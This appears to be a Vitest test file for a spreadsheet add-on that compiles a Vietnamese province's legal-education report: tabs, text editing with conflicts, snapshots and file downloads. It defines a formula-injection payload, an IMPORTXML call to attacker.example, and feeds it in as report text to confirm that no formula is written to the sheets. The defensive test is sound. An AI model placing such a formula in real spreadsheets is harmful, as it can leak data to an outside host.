// The province's report in the spreadsheet: its tabs, the texts of Sở Tư pháp, what is frozen, and its files.
import { describe, expect, test } from "vitest";
import { OFFICE_FIELDS, type OfficeField } from "../../shared/province/view.ts";
import { OFFICE } from "../../shared/wording/sheet.ts";
import { formulasIn, problem, rowsOf, tabOf, value } from "./answers.ts";
import { type Harness, startEnvironment } from "./environment.ts";

const PERIOD = "kh-6134-2021";
const TAB = `${OFFICE.tab} – Năm 2021`;
const HOSTILE = '=IMPORTXML("https://attacker.example";"//a")';

const environment = startEnvironment();

/** The rows of a pulled table without its keys and what stands above it. */
const bodyOf = (harness: Harness, tab: string) =>
  rowsOf(harness, tab)
    .slice(4)
    .map((row) => row.slice(1));

describe("pulling the view", () => {
  test("writes seven tabs in place of those before, without a formula in any", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const pulled = value(harness.addon.pullProvince(PERIOD));
    expect(pulled).toMatchObject({ expected: 37, received: 11, approved: 7, onTime: 11 });
    const again = value(harness.addon.pullProvince(PERIOD));
    expect(again.tabs).toEqual(pulled.tabs);
    expect(harness.fake.spreadsheet.sheets().map((each) => each.name())).toEqual([
      "Trang tính1",
      ...pulled.tabs,
    ]);
    expect(pulled.tabs.map((tab) => formulasIn(harness, tab))).toEqual([0, 0, 0, 0, 0, 0, 0]);
  });

  test("asks the worker for the view and one page of texts, and calls as often for any number of rows", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const before = harness.fake.requests.length;
    value(harness.addon.pullProvince(PERIOD));
    const asked = harness.fake.requests
      .slice(before)
      .map(({ url }) => new URL(url).pathname.split("/").pop());
    expect(asked).toEqual(["province", "texts"]);
  });

  test("reads on where there are more pages of texts", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const line = (agency: string) => ({
      ...{ kind: "difficulty", agency, answersFor: null, duty: null, key: "own.1", version: 1 },
      text: HOSTILE,
    });
    harness.intercept((request, send) => {
      if (!request.url.includes("/province/texts")) return send();
      const first = !request.url.includes("after=");
      const page = first
        ? { texts: [line("so-noi-vu")], next: "so-noi-vu" }
        : { texts: [line("cong-an-tinh")], next: null };
      return { status: 200, headers: {}, body: JSON.stringify(page) };
    });
    const { tabs } = value(harness.addon.pullProvince(PERIOD));
    const texts = tabs[5] ?? "";
    expect(bodyOf(harness, texts).map((row) => row.slice(0, 5))).toEqual([
      ["Khó khăn, vướng mắc", "Sở Nội vụ", "–", HOSTILE, "Báo cáo lần 1, dòng Khác 1"],
      ["Khó khăn, vướng mắc", "Công an tỉnh", "–", HOSTILE, "Báo cáo lần 1, dòng Khác 1"],
    ]);
    expect(formulasIn(harness, texts)).toBe(0);
    const pages = harness.fake.requests
      .filter(({ url }) => url.includes("/texts"))
      .map(({ url }) => new URL(url).search);
    expect(pages).toEqual(["?limit=100", "?limit=100&after=so-noi-vu"]);
  });

  test("figures stand with and without what was only coordinated, each with the list behind it", async () => {
    const harness = await environment.openHarness("theo-doi");
    const { tabs } = value(harness.addon.pullProvince(PERIOD));
    const figures = bodyOf(harness, tabs[3] ?? "");
    const parts = bodyOf(harness, tabs[4] ?? "");
    const digits = (text = "") => (text === "–" ? 0 : Number(text));
    const sum = (rows: string[][], column: number) =>
      Math.round(rows.reduce((total, row) => total + digits(row[column]), 0) * 1000) / 1000;
    const added = figures.map(([number]) => {
      const behind = parts.filter((row) => row[0] === number);
      const given = behind.filter((row) => row[6] !== "chưa có số liệu");
      return [
        number,
        sum(given, 4),
        sum(given, 4) - sum(given, 5),
        given.length,
        behind.length - given.length,
      ];
    });
    expect(
      figures.map((row) => [row[0], digits(row[3]), digits(row[4]), Number(row[5]), Number(row[8])]),
    ).toEqual(added);
    expect(figures.some((row) => row[3] !== row[4])).toBe(true);
    expect(figures.length).toBeGreaterThan(10);
  });

  test("who is missing stands first, then what was returned and what waits, each with its reason", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    const { tabs } = value(harness.addon.pullProvince(PERIOD));
    const rows = bodyOf(harness, tabs[6] ?? "");
    const reasons = [...new Set(rows.map((row) => row[1]))];
    expect(reasons).toEqual([
      "✗ Chưa gửi",
      "✗ Cần chỉnh lý",
      "◐ Đã gửi, chờ duyệt",
      "+ Không bắt buộc, chưa có báo cáo được duyệt",
    ]);
    expect(rows.filter((row) => row[1] === "✗ Cần chỉnh lý").map((row) => row.slice(0, 3))).toEqual([
      ["Ủy ban nhân dân huyện Ba Tri", "✗ Cần chỉnh lý", "Cần chỉnh lý"],
    ]);
  });
});

describe("the texts of Sở Tư pháp", () => {
  const rowOf = (field: OfficeField) => 5 + OFFICE_FIELDS.indexOf(field);
  const TEXT = 4;
  const write = (harness: Harness, field: OfficeField, text: string) =>
    harness.fake.type(TAB, rowOf(field), TEXT, text);
  const read = (harness: Harness, field: OfficeField, column = TEXT) =>
    String(tabOf(harness, TAB).content({ row: rowOf(field), column }).value ?? "");

  test("are opened in a tab, saved, and found again by a colleague; what two changed is shown and never lost", async () => {
    const mine = await environment.openHarness("tong-hop-1");
    const theirs = await environment.openHarness("tong-hop-2");
    expect(problem(mine.addon.saveOfficeTexts(PERIOD))).toBe("no_office_tab");
    const opened = value(mine.addon.openOfficeTexts(PERIOD));
    expect(opened).toEqual({
      period: { id: PERIOD, name: "Năm 2021" },
      tab: TAB,
      saved: null,
      filled: 0,
      of: OFFICE_FIELDS.length,
      conflicts: [],
      inStep: true,
      aside: null,
    });
    const cell = tabOf(mine, TAB).cell(rowOf("causes"), TEXT);
    expect([cell.style.numberFormat, cell.style.wrap]).toEqual(["@", "WRAP"]);
    write(mine, "causes", HOSTILE);
    write(mine, "direction", "Tiếp tục thực hiện Kế hoạch");
    // A file or a snapshot would be without what is only typed.
    expect(problem(mine.addon.freezeSnapshot(PERIOD))).toBe("office_unsaved");
    expect(problem(mine.addon.downloadProvince(PERIOD, null, "docx"))).toBe("office_unsaved");
    const saved = value(mine.addon.saveOfficeTexts(PERIOD));
    expect(value(mine.addon.downloadProvince(PERIOD, null, "docx")).name).toMatch(/\.docx$/);
    expect([saved.inStep, saved.filled, saved.saved?.by]).toEqual([true, 2, "Người minh họa D"]);
    expect(formulasIn(mine, TAB)).toBe(0);

    value(theirs.addon.openOfficeTexts(PERIOD));
    expect([read(theirs, "causes"), read(theirs, "direction")]).toEqual([
      HOSTILE,
      "Tiếp tục thực hiện Kế hoạch",
    ]);
    write(theirs, "causes", "Nhân sự còn mỏng");
    write(theirs, "advantages", "Nhiều mô hình hay");
    value(theirs.addon.saveOfficeTexts(PERIOD));

    write(mine, "causes", "Kinh phí hạn chế");
    write(mine, "proposals", "Đề nghị tăng kinh phí");
    const stale = value(mine.addon.saveOfficeTexts(PERIOD));
    expect(stale).toMatchObject({
      inStep: false,
      conflicts: [
        { field: "causes", label: "Nguyên nhân", mine: "Kinh phí hạn chế", theirs: "Nhân sự còn mỏng" },
      ],
    });
    const fields: OfficeField[] = ["causes", "advantages", "direction", "proposals"];
    expect(fields.map((field) => [read(mine, field), read(mine, field, 5)])).toEqual([
      ["Kinh phí hạn chế", "Nhân sự còn mỏng"],
      ["Nhiều mô hình hay", ""],
      ["Tiếp tục thực hiện Kế hoạch", ""],
      ["Đề nghị tăng kinh phí", ""],
    ]);
    const kept = value(mine.addon.saveOfficeTexts(PERIOD));
    expect([kept.inStep, kept.conflicts, read(mine, "causes", 5)]).toEqual([true, [], ""]);
    value(theirs.addon.openOfficeTexts(PERIOD));
    expect(fields.map((field) => read(theirs, field))).toEqual([
      "Kinh phí hạn chế",
      "Nhiều mô hình hay",
      "Tiếp tục thực hiện Kế hoạch",
      "Đề nghị tăng kinh phí",
    ]);
  });

  test("what was typed and not saved stays where the tab is opened again, wherever its rows moved", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    value(harness.addon.openOfficeTexts(PERIOD));
    write(harness, "signer_name", "Chưa lưu");
    tabOf(harness, TAB).insertRows(6, 2);
    tabOf(harness, TAB).rename("Nội dung của tôi");
    const opened = value(harness.addon.openOfficeTexts(PERIOD));
    expect([opened.tab, opened.inStep]).toEqual(["Nội dung của tôi", false]);
    expect(rowsOf(harness, "Nội dung của tôi").find(([key]) => key === "signer_name")?.[3]).toBe("Chưa lưu");
  });

  const DAMAGES: [string, (harness: Harness) => void][] = [
    ["a row was deleted", (harness) => tabOf(harness, TAB).deleteRows(rowOf("causes"), 1)],
    ["the key column was deleted", (harness) => tabOf(harness, TAB).deleteColumns(1, 1)],
    ["a row was doubled", (harness) => harness.fake.type(TAB, rowOf("causes"), 1, "direction")],
  ];
  test.each(DAMAGES)(
    "where %s nothing is saved, and the old tab stays beside the new one",
    async (_, damage) => {
      const harness = await environment.openHarness("tong-hop-1");
      value(harness.addon.openOfficeTexts(PERIOD));
      write(harness, "implementation", "Nội dung quý");
      damage(harness);
      const old = rowsOf(harness, TAB);
      const before = harness.fake.requests.length;
      expect(problem(harness.addon.saveOfficeTexts(PERIOD))).toBe("office_tab_damaged");
      expect(value(harness.addon.openOfficeTexts(PERIOD))).toMatchObject({
        tab: TAB,
        aside: `${TAB} (bản cũ)`,
      });
      expect(rowsOf(harness, `${TAB} (bản cũ)`)).toEqual(old);
      expect(old.flat()).toContain("Nội dung quý");
      expect(harness.fake.requests.slice(before).filter(({ method }) => method === "PUT")).toEqual([]);
    },
  );

  test("what a person wrote beside the table is kept with the old tab, and the texts go on in the new one", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    value(harness.addon.openOfficeTexts(PERIOD));
    write(harness, "implementation", "Đã ban hành kế hoạch");
    tabOf(harness, TAB).insertColumns(5, 2);
    harness.fake.type(TAB, rowOf("causes"), 6, "Ghi chú riêng");
    const opened = value(harness.addon.openOfficeTexts(PERIOD));
    expect([opened.aside, read(harness, "implementation")]).toEqual([
      `${TAB} (bản cũ)`,
      "Đã ban hành kế hoạch",
    ]);
    expect(rowsOf(harness, `${TAB} (bản cũ)`).flat()).toContain("Ghi chú riêng");
  });

  test("nobody but a reviewer opens or writes them: others read them once they are frozen", async () => {
    const harness = await environment.openHarness("theo-doi");
    expect(problem(harness.addon.openOfficeTexts(PERIOD))).toBe("role_forbidden");
  });
});

describe("snapshots and files", () => {
  test("what is frozen is listed, and a later approval shows what the next would change", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    expect(value(harness.addon.listSnapshots(PERIOD))).toMatchObject({
      snapshots: [],
      changes: { since: null },
    });
    const frozen = value(harness.addon.freezeSnapshot(PERIOD));
    expect(frozen.snapshots).toMatchObject([{ number: 1, by: { name: "Người minh họa D" } }]);
    expect(frozen.changes).toEqual({
      since: 1,
      versions: [],
      duties: [],
      figures: [],
      textsChanged: false,
      otherwise: false,
    });

    const agency = "so-lao-dong-thuong-binh-xa-hoi";
    const { head } = value(harness.addon.openReport(PERIOD, agency));
    value(harness.addon.approveReport(PERIOD, agency, 1, head.rev, ""));
    const later = value(harness.addon.listSnapshots(PERIOD)).changes;
    expect([later.since, later.versions]).toEqual([
      1,
      [{ agency, name: "Sở Lao động - Thương binh và Xã hội", before: null, after: 1 }],
    ]);
    expect(value(harness.addon.freezeSnapshot(PERIOD)).snapshots.map(({ number }) => number)).toEqual([1, 2]);
    const viewer = await environment.openHarness("theo-doi");
    expect(value(viewer.addon.listSnapshots(PERIOD)).snapshots).toHaveLength(2);
    expect(problem(viewer.addon.freezeSnapshot(PERIOD))).toBe("role_forbidden");
  });

  const FILES: [number | null, "docx" | "xlsx", string][] = [
    [null, "docx", "Tổng hợp PBGDPL Năm 2021.docx"],
    [null, "xlsx", "Tổng hợp PBGDPL Năm 2021.xlsx"],
    [1, "docx", "Tổng hợp PBGDPL Năm 2021 - bản chốt số 1.docx"],
    [1, "xlsx", "Tổng hợp PBGDPL Năm 2021 - bản chốt số 1.xlsx"],
  ];
  test.each(FILES)(
    "of snapshot %j as %s comes whole, under its Vietnamese name",
    async (snapshot, format, name) => {
      const harness = await environment.openHarness("theo-doi");
      const file = value(harness.addon.downloadProvince(PERIOD, snapshot, format));
      const bytes = Buffer.from(file.base64, "base64");
      expect([file.name, bytes.subarray(0, 4).toString("latin1")]).toEqual([name, "PK\u0003\u0004"]);
      expect(file.type).toMatch(/^application\/vnd\.openxmlformats-officedocument\./);
      // The end of a zip archive's directory: nothing was cut off, and no byte was taken for text.
      expect(bytes.includes(Buffer.from("PK\u0005\u0006", "latin1"))).toBe(true);
    },
  );

  test("a file over 20 MB is refused in words, and a snapshot that is not there is told", async () => {
    const harness = await environment.openHarness("tong-hop-1");
    expect(problem(harness.addon.downloadProvince(PERIOD, 99, "docx"))).toBe("snapshot_unknown");
    harness.intercept(() => ({ status: 200, headers: {}, body: "x".repeat(20_000_001) }));
    expect(problem(harness.addon.downloadProvince(PERIOD, null, "docx"))).toBe("file_too_large");
  });
});
